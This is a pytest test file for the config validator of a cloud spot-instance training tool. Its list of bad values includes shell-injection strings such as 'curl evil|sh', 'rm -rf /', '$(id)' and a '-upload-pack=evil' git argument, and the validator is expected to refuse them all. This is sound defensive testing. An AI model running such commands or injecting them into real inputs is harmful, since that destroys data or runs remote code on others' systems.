"""core/settings.py: every bad value fails with one line naming the key, the value and what is allowed; the
defaults are cdk.json's; the one context loader (cdk.json + -c key=value)."""

from __future__ import annotations

import json
from pathlib import Path
from typing import Any

import pytest

from training.cloud.core.settings import DEFAULTS, RunConfig, cdk_context_args, load_context
from training.errors import ConfigError

ROOT = Path(__file__).resolve().parents[4]
GOOD: dict[str, Any] = {"repoUrl": "https://git.example.com/team/spotgrade.git"}


def load(**overrides: Any) -> RunConfig:
    context = {**GOOD, **overrides}
    return RunConfig.from_context(context.get)


BAD_VALUES = [
    ("instanceTypes", ["g5.xlarge", "not a type"]),
    ("instanceTypes", "g5.xlarge;reboot"),
    ("instanceTypes", []),
    ("instanceTypes", "g5.xlarge,g5.xlarge"),
    ("maxRuntimeHours", -1),
    ("maxRuntimeHours", "0"),
    ("maxRuntimeHours", "eight"),
    ("maxRuntimeHours", 100),
    ("dataUri", "https://example.com/loans.csv"),
    ("dataUri", "s3://Bad_Bucket/loans.csv"),
    ("dataUri", "s3://bucket/$(reboot).csv"),
    ("repoUrl", "https://x/y.git;curl evil|sh"),
    ("repoUrl", "https://user:token@git.example.com/team/repo.git"),
    ("repoUrl", "http://git.example.com/team/repo.git"),
    ("repoUrl", "git@git.example.com:team/repo.git"),
    ("gitRef", "main; rm -rf /"),
    ("gitRef", "$(id)"),
    ("gitRef", "-upload-pack=evil"),
    ("gitRef", "feature/../../x"),
    ("trainArgs", "--epochs 3; curl evil | sh"),
    ("trainArgs", "--epochs `id`"),
    ("trainArgs", "--epochs $HOME"),
    ("trainArgs", "--output /tmp/x"),
    ("trainArgs", "--out=/tmp/x"),
    ("trainArgs", "--run-i other"),
    ("trainArgs", "positional"),
    ("trainArgs", "--epochs 'unbalanced"),
    ("capacity", "reserved"),
    ("maxSpotPrice", "-0.2"),
    ("maxSpotPrice", "cheap"),
    ("rootVolumeGiB", 20),
    ("rootVolumeGiB", "100.5"),
    ("runId", "run id with spaces"),
    ("runId", "-starts-with-dash"),
    ("amiParameter", "ami-0123456789abcdef0"),
    ("artifactBucket", "UPPER_case"),
    ("retainArtifacts", "maybe"),
    ("logRetentionDays", 10),
    ("checkpointExpiryDays", 0),
    ("stackName", "1-starts-with-digit"),
    ("notifyEmail", "me@example.com; rm -rf /"),
    ("notifyEmail", "not-an-address"),
    ("notifyEmail", "a@b"),
    ("notifyEmail", ["a@example.com"]),
    ("heartbeatMinutes", 4),
    ("heartbeatMinutes", 121),
    ("heartbeatMinutes", "7.5"),
    ("heartbeatMinutes", "often"),
]


@pytest.mark.parametrize(("key", "value"), BAD_VALUES, ids=[f"{k}={v!r}" for k, v in BAD_VALUES])
def test_bad_value_fails_with_one_line_naming_key(key: str, value: Any) -> None:
    with pytest.raises(ConfigError) as err:
        load(**{key: value})
    message = str(err.value)
    assert "\n" not in message
    assert message.startswith(f"context key '{key}': ")
    assert "expected" in message and f"-c {key}=" in message


def test_defaults_give_a_valid_config_and_match_cdk_json() -> None:
    config = load()
    assert config.instance_types == ("g4dn.xlarge", "g5.xlarge", "g6.xlarge")
    assert config.capacity == "spot" and config.max_spot_price is None
    assert config.data_uri == "" and config.data_location is None
    assert config.asg_name == "Spotgrade-default" and config.run_prefix == "runs/default/"
    context = json.loads((ROOT / "cdk.json").read_text())["context"]
    assert context == {**DEFAULTS, "cli-telemetry": False}  # every key, and nothing else


def test_cli_strings_are_parsed() -> None:
    config = load(instanceTypes='["g5.xlarge", "g6e.xlarge"]', maxSpotPrice="0.5", maxRuntimeHours="2.5",
                  rootVolumeGiB="200", retainArtifacts="false", logRetentionDays="90",
                  trainArgs="--epochs=5  --features reference", dataUri="s3://lc-data/raw/20*.csv.gz")
    assert config.instance_types == ("g5.xlarge", "g6e.xlarge")
    assert (config.max_spot_price, config.max_runtime_hours, config.root_volume_gib) == (0.5, 2.5, 200)
    assert config.retain_artifacts is False and config.log_retention_days == 90
    assert config.train_args == "--epochs=5 --features reference"
    assert config.data_location == ("lc-data", "raw/20")  # IAM prefix stops at the glob


def test_notification_and_heartbeat_settings() -> None:
    assert (load().notify_email, load().heartbeat_minutes) == (None, 15)
    config = load(notifyEmail="ml-team+runs@example.co.uk", heartbeatMinutes="30")
    assert (config.notify_email, config.heartbeat_minutes) == ("ml-team+runs@example.co.uk", 30)
    assert load(notifyEmail="  ").notify_email is None  # `-c notifyEmail=` means no email
    assert (load(heartbeatMinutes=5).heartbeat_minutes, load(heartbeatMinutes=120).heartbeat_minutes) == (5, 120)


def test_spot_price_refused_with_on_demand() -> None:
    with pytest.raises(ConfigError, match="maxSpotPrice.*capacity=on-demand"):
        load(capacity="on-demand", maxSpotPrice="0.4")


def test_checkpoint_expiry_must_outlast_the_run() -> None:
    with pytest.raises(ConfigError, match="checkpointExpiryDays"):
        load(maxRuntimeHours=72, checkpointExpiryDays=3)
    assert load(maxRuntimeHours=72, checkpointExpiryDays=4).checkpoint_expiry_days == 4


def test_a_value_with_a_trailing_line_break_is_refused() -> None:
    """Patterns match the whole value (a `$` anchor let "exp-7\\n" through before)."""
    for key, value in (("runId", "exp-7\n"), ("gitRef", "main\n"), ("stackName", "Spotgrade\n")):
        with pytest.raises(ConfigError, match=f"context key '{key}'"):
            load(**{key: value})


def test_the_default_repo_url_is_asked_only_without_one() -> None:
    asked = []

    def origin() -> str:
        asked.append(1)
        return "https://git.example.com/team/origin.git"

    assert RunConfig.from_context({}.get, default_repo_url=origin).repo_url == "https://git.example.com/team/origin.git"
    assert RunConfig.from_context(GOOD.get, default_repo_url=origin).repo_url == GOOD["repoUrl"]
    assert RunConfig.from_context({}.get).repo_url is None and len(asked) == 1


def test_run_keys_come_from_the_layout() -> None:
    config = load(runId="exp-7")
    assert config.keys.run_id == "exp-7" and config.run_prefix == config.keys.prefix == "runs/exp-7/"


# ---------------------------------------------------------------- the context loader

def test_load_context_overlays_defaults_cdk_json_and_overrides(tmp_path: Path) -> None:
    cdk_json = tmp_path / "cdk.json"
    cdk_json.write_text(json.dumps({"app": "python3 app.py", "context": {"maxRuntimeHours": 6, "runId": "r1"}}))
    context = load_context(["maxRuntimeHours=4", " gitRef =v2"], cdk_json)
    assert (context["maxRuntimeHours"], context["runId"], context["gitRef"]) == ("4", "r1", "v2")
    assert context["stackName"] == DEFAULTS["stackName"]
    assert load_context([], None) == DEFAULTS
    assert load_context([], tmp_path / "missing.json") == DEFAULTS


def test_load_context_errors(tmp_path: Path) -> None:
    with pytest.raises(ConfigError, match="expected key=value"):
        load_context(["maxRuntimeHours"], None)
    with pytest.raises(ConfigError, match="expected key=value"):
        load_context(["=4"], None)
    bad = tmp_path / "cdk.json"
    bad.write_text("{")
    with pytest.raises(ConfigError, match="not valid JSON"):
        load_context([], bad)


def test_cdk_context_args_picks_every_context_form() -> None:
    args = ["--require-approval", "never", "-c", "repoUrl=https://h.example/o/r.git", "--context=runId=r2",
            "-cgitRef=v1", "--context", "capacity=spot", "Spotgrade"]
    assert cdk_context_args(args) == ["repoUrl=https://h.example/o/r.git", "runId=r2", "gitRef=v1",
                                      "capacity=spot"]
    assert cdk_context_args(["-c"]) == [""]
